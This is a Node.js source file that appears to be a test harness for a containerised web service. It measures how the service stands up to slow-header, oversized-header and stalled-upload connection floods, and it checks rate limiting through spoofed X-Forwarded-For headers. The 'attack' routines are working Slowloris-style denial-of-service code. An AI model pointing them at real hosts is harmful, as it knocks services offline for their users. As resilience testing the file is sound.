// Clients of a site, run in a container, which has an address of its own.
//   attack KIND HOST         opens connections that are never done, and others in their place, until it is killed
//   visit HOST SECONDS       asks as honest people do; prints how often it got which answer, and the longest time
//   head HOST [HEADER...]    prints the head of a request as it reached the service
//   share HOST COUNT         begins uploads as a proxy does for one client; prints how many were refused, and what another got
import http from 'node:http';
import net from 'node:net';

const HEAD = 'GET /?x HTTP/1.1\r\nHost: x\r\n';
const LONG_HEAD = HEAD + `X-Long: ${'x'.repeat(31000)}\r\n`;
const UPLOAD = 'POST /api/upload HTTP/1.1\r\nHost: x\r\nContent-Length: 1048576\r\n\r\n' + 'x'.repeat(1048575);

const ATTACKS = {
  heads: host => many(host, 2500, HEAD + 'X-Slow: '),
  memory: host => {
    many(host, 2000, LONG_HEAD);
    many(host, 80, UPLOAD);
  },
  uploads: host => many(host, 90, UPLOAD),
};

function many(host, count, beginning) {
  const hold = () => {
    const socket = net.connect(8080, host, () => socket.write(beginning));
    socket.on('data', () => {});
    socket.on('error', () => {});
    socket.on('close', () => setTimeout(hold, 300));
  };
  let held = 0;
  const timer = setInterval(() => {
    for (let i = 0; i < 40 && held < count; i++, held++) hold();
    if (held === count) {
      clearInterval(timer);
      console.log(`all ${count} are there`);
    }
  }, 10);
}

const answers = new Map();
let longest = 0;

function ask(host, method, path, body) {
  const since = Date.now();
  return new Promise(resolve => {
    const done = what => {
      longest = Math.max(longest, Date.now() - since);
      answers.set(what, (answers.get(what) ?? 0) + 1);
      resolve();
    };
    const headers = body ? { 'Content-Length': body.length } : {};
    const request = http.request({ host, port: 8080, method, path, headers, agent: false, timeout: 10_000 }, answer => {
      answer.on('end', () => done(answer.statusCode));
      answer.on('error', error => done(error.code));
      answer.resume();
    });
    request.on('timeout', () => request.destroy(Object.assign(new Error('late'), { code: 'LATE' })));
    request.on('error', error => done(error.code));
    request.end(body);
  });
}

async function visit(host, seconds) {
  const body = 'y'.repeat(200_000);
  for (const end = Date.now() + seconds * 1000; Date.now() < end;) {
    await Promise.all([ask(host, 'GET', '/'), ask(host, 'GET', '/api/head'), ask(host, 'POST', '/api/head', body)]);
    await new Promise(resolve => setTimeout(resolve, 50));
  }
  console.log(JSON.stringify({ answers: Object.fromEntries(answers), longest }));
}

function head(host, headers) {
  const request = { host, port: 8080, path: '/api/head', headers: Object.fromEntries(headers.map(it => it.split(': '))) };
  http.get(request, answer => answer.pipe(process.stdout));
}

function share(host, count) {
  let refused = 0;
  for (let i = 0; i < count; i++) {
    const socket = net.connect(8080, host);
    socket.on('data', answer => { if (`${answer}`.startsWith('HTTP/1.1 429')) refused++; });
    socket.on('error', () => {});
    socket.write(UPLOAD.replace('Host: x', 'Host: x\r\nX-Forwarded-For: 198.51.100.20'));
  }
  setTimeout(() => {
    const headers = { 'X-Forwarded-For': '198.51.100.21', 'Content-Length': 200_000 };
    http.request({ host, port: 8080, method: 'POST', path: '/api/head', headers }, answer => {
      console.log(JSON.stringify({ refused, other: answer.statusCode }));
      process.exit();
    }).end('z'.repeat(200_000));
  }, 2000);
}

const [what, ...rest] = process.argv.slice(1);
if (what === 'attack') ATTACKS[rest[0]](rest[1]);
if (what === 'visit') await visit(rest[0], Number(rest[1]));
if (what === 'head') head(rest[0], rest.slice(1));
if (what === 'share') share(rest[0], Number(rest[1]));
